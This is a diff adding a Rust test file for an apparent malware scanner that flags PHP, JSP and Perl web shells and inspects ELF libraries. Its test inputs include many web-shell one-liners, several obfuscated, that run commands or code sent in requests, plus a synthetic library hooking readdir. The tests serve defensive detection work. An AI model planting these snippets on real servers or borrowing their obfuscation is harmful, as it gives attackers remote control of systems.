@@ -1,0 +1,212 @@
+use super::*;
+use keeneye_facts::ElfShape;
+
+/// What the lines of a PHP script do.
+fn php(code: &str) -> Vec<Does> {
+    let text = format!("<?php\n{code}\n");
+    match of(&Text::from("/srv/x.php"), text.as_bytes(), false) {
+        Shape::Script(script) => script.lines.into_iter().map(|line| line.does).collect(),
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn what_a_request_brings_is_run() {
+    for code in [
+        "eval($_POST['a']);",
+        "if(false){eval(base64_decode($_POST[\"a\"]));}",
+        "@eval(gzinflate(base64_decode($_COOKIE['x'])));",
+        "$x = $_REQUEST['c']; system($x);",
+        "$x = trim($_GET['c']); $y = \"$x 2>&1\"; echo shell_exec($y);",
+        "echo `{$_GET['c']}`;",
+        "$c = $_GET['c']; echo `$c`;",
+        "$_GET['f']($_POST['c']);",
+        "$f = 'as'.'sert'; $f($_POST['x']);",
+        "$f = \"\\x65val\"; $f($_POST['x']);",
+        "$f = base64_decode('YXNzZXJ0'); $f($_POST['x']);",
+        "$f = $_GET['f']; $f($_GET['a']);",
+        "${'_PO'.'ST'}; eval(${'_PO'.'ST'}['x']);",
+        "$g = '_POST'; eval($$g['x']);",
+        "eval($GLOBALS['_POST']['x']);",
+        "eval(file_get_contents('php://input'));",
+        "assert($_POST['x']);",
+        "preg_replace('/.*/e', $_POST['x'], '');",
+        "call_user_func('system', $_GET['c']);",
+        "call_user_func($_GET['f'], $_GET['c']);",
+        "array_map('assert', array($_POST['x']));",
+        "usort($_POST['x'], 'system');",
+        "create_function('', $_POST['x']);",
+        "foreach ($_POST as $k => $v) { eval($v); }",
+        "extract($_POST); system($cmd);",
+        "function run($c) { return shell_exec($c); } echo run($_GET['c']);",
+        "echo run($_GET['c']);\nfunction run($c) { return shell_exec($c); }",
+        "class C { public function __invoke($p) { eval($p.''); } } $p = file_get_contents('php://input'); @call_user_func(new C(), $p);",
+        "$p = openssl_decrypt(file_get_contents('php://input'), 'AES128', $k); $a = explode('|', $p); $q = $a[1]; eval($q);",
+        "class A { function f() { $this->c = $_POST['c']; } function g() { eval($this->c); } }",
+        "system($_SERVER['HTTP_X_CMD']);",
+        "include 'php://input'; eval(file_get_contents(\"php://input\"));",
+    ] {
+        assert!(php(code).contains(&Does::RunsInput), "{code}: {:?}", php(code));
+    }
+}
+
+#[test]
+fn what_is_decoded_or_fetched_is_run() {
+    for code in [
+        "eval(base64_decode('ZWNobyAxOw=='));",
+        "$a = gzinflate(base64_decode('eJw')); eval($a);",
+        "eval(str_rot13('x'));",
+    ] {
+        assert_eq!(php(code), [Does::RunsDecoded], "{code}");
+    }
+    assert_eq!(php("eval(file_get_contents('http://192.0.2.1/x'));"), [Does::RunsFetched]);
+    assert_eq!(php("file_put_contents($_GET['f'], $_POST['c']);"), [Does::WritesInput]);
+    assert_eq!(php("include $_GET['page'] . '.php';"), [Does::LoadsInput]);
+}
+
+#[test]
+fn ordinary_code_is_quiet() {
+    for code in [
+        "$x = base64_decode($_POST['x']); echo $x;",
+        "// eval($_POST['x']);\n/* eval($_POST['x']); */ # eval($_POST['x'])",
+        "echo 'eval($_POST[x])';",
+        "$id = intval($_GET['id']); $q = \"select $id\";",
+        "$action = $_GET['action']; if (is_callable($action)) { $this->$action(); }",
+        "call_user_func(array($this, $_REQUEST['action']));",
+        "assert(is_string($_GET['x'])); assert($x instanceof Y);",
+        "$data = unserialize(base64_decode($o));",
+        "array_map('trim', $_POST);",
+        "array_map('intval', $_POST['ids']);",
+        "preg_replace('/[^a-z]/i', '', $_GET['x']);",
+        "$f = function ($m) { return strrev($m); }; preg_replace_callback('/x/', $f, $_GET['x']);",
+        "/* Smarty version 4.3.0 */ echo \"hello\";",
+        "file_put_contents($cache, $content);",
+        "function eval_template($x) { return $x; } eval_template($_POST['x']);",
+        "$curl->exec($_POST['x']);",
+        "$db->exec(\"select \" . $_POST['x']);",
+    ] {
+        assert_eq!(php(code), [], "{code}");
+    }
+    for code in [
+        "exec('ls ' . escapeshellarg($_GET['d']));",
+        "eval('?>' . $content);",
+        "$cmd = $_GET['a'] == 'list' ? 'ls' : 'df'; system($cmd);",
+        "$cmds = array('a' => 'ls'); system($cmds[$_GET['a']]);",
+        "system('kill ' . (int)$_GET['pid']);",
+        "function a() { $data = $_POST['x']; } function b($data) { system($data); }",
+        "exec(own_quote($_POST['x']));",
+    ] {
+        assert_eq!(php(code), [Does::Runs], "{code}");
+    }
+}
+
+#[test]
+fn other_languages() {
+    let does = |path: &str, text: &str| match of(&Text::from(path), text.as_bytes(), false) {
+        Shape::Script(script) => script.lines.into_iter().map(|line| line.does).collect(),
+        _ => Vec::new(),
+    };
+    let shell = "<%@ page %>\n<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>";
+    assert_eq!(does("/srv/a.jsp", shell), [Does::RunsInput]);
+    assert_eq!(does("/srv/a.jsp", "<%= request.getParameter(\"c\") %>"), []);
+    assert_eq!(does("/srv/a.cgi", "#!/usr/bin/perl\nsystem(param('c'));\n"), [Does::RunsInput]);
+    assert_eq!(does("/srv/a.cgi", "#!/usr/bin/perl\n# system(param('c'));\nprint param('c');"), []);
+    assert_eq!(of(&Text::from("/srv/a.txt"), b"eval", false), Shape::Other);
+}
+
+#[test]
+fn lines_are_short_and_without_secrets() {
+    let text = format!("<?php\n$password = 's3cret'; eval($_POST['x']); // {}\n", "x".repeat(9000));
+    let Shape::Script(script) = of(&Text::from("/srv/x.php"), text.as_bytes(), false) else { panic!("no script") };
+    assert_eq!(script.lines.len(), 1);
+    assert!(script.lines[0].text.len() <= 240 && script.lines[0].number == 2);
+    assert!(!script.lines[0].text.contains_str("s3cret"), "{:?}", script.lines[0].text);
+    assert!(script.longest > 9000);
+}
+
+#[test]
+fn deep_nesting_costs_little() {
+    let deep = format!("<?php {}$_POST['x']{};", "eval(".repeat(40_000), ")".repeat(40_000));
+    let wide = format!("<?php {};", "$a=".repeat(60_000));
+    for text in [deep, wide] {
+        let Shape::Script(script) = of(&Text::from("/x.php"), text.as_bytes(), false) else { panic!("no script") };
+        assert!(script.cut);
+    }
+}
+
+#[test]
+fn hostile_scripts() {
+    let seed: &[u8] = b"<html><?php\nfunction run($c, &$d) { return shell_exec($c); }\n$x = $_POST['a']['b'] . \"x\\x41 {$y['z']}\";\n\
+        ${'_GE'.'T'}; foreach ($_GET as $k => $v) { echo `ls $v`; }\n$this->c = <<<EOT\nabc $x\nEOT;\neval(base64_decode($x));\n\
+        call_user_func(array('a', $x), $_GET['f']);\n?></html>";
+    crate::mutate::check(&[seed], |bytes| matches!(of(&Text::from("/x.php"), bytes, false), Shape::Script(_)));
+}
+
+/// A small library: headers, a dynamic section, names and symbols, as ld(1) writes them.
+fn library() -> Vec<u8> {
+    let mut bytes = vec![0_u8; 0x400];
+    let put = |bytes: &mut Vec<u8>, at: usize, value: u64, size: usize| {
+        bytes[at..at + size].copy_from_slice(&value.to_le_bytes()[..size]);
+    };
+    bytes[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
+    for (at, value, size) in [(16, 3, 2), (18, 62, 2), (20, 1, 4), (32, 64, 8), (52, 64, 2), (54, 56, 2), (56, 2, 2)] {
+        put(&mut bytes, at, value, size);
+    }
+    let segment = |bytes: &mut Vec<u8>, at: usize, kind: u64, flags: u64, offset: u64, length: u64| {
+        put(bytes, at, kind, 4);
+        put(bytes, at + 4, flags, 4);
+        for (field, value) in [(8, offset), (16, offset), (24, offset), (32, length), (40, length), (48, 8)] {
+            put(bytes, at + field, value, 8);
+        }
+    };
+    segment(&mut bytes, 64, 1, 7, 0, 0x400);
+    segment(&mut bytes, 120, 2, 6, 0x200, 80);
+    let entries = [(1, 1), (5, 0x350), (10, 24), (6, 0x320), (0, 0)];
+    for (index, (tag, value)) in entries.into_iter().enumerate() {
+        put(&mut bytes, 0x200 + index * 16, tag, 8);
+        put(&mut bytes, 0x208 + index * 16, value, 8);
+    }
+    bytes[0x350..0x350 + 19].copy_from_slice(b"\0libc.so.6\0readdir\0");
+    put(&mut bytes, 0x320 + 24, 11, 4);
+    put(&mut bytes, 0x320 + 24 + 6, 1, 2);
+    bytes
+}
+
+fn elf(bytes: &[u8]) -> Option<ElfShape> {
+    match of(&Text::from("/x"), bytes, false) {
+        Shape::Elf(shape) => Some(shape),
+        _ => None,
+    }
+}
+
+#[test]
+fn headers_of_a_library() {
+    let shape = elf(&library()).unwrap();
+    assert_eq!((shape.bits, shape.is_library, shape.is_static, shape.sections), (64, true, false, false));
+    assert!(shape.writable_code && shape.stripped || !shape.sections);
+    assert_eq!(shape.needed, [Text::from("libc.so.6")]);
+    assert_eq!(shape.hooks, [Text::from("readdir")]);
+    assert!(shape.entropy < 50, "{}", shape.entropy);
+    assert_eq!(elf(b"\x7fELF"), None);
+    assert_eq!(elf(b"\x7fELF\x07\x01\x01"), None);
+}
+
+#[test]
+fn noise_is_measured() {
+    let mut bytes = library();
+    let mut state = 1_u64;
+    while bytes.len() < 100_000 {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        bytes.push((state >> 32) as u8);
+    }
+    let length = (bytes.len() as u64).to_le_bytes();
+    bytes[96..104].copy_from_slice(&length);
+    assert!(elf(&bytes).unwrap().entropy > 95);
+}
+
+#[test]
+fn hostile_headers() {
+    crate::mutate::check(&[&library()], |bytes| elf(bytes).is_some());
+}
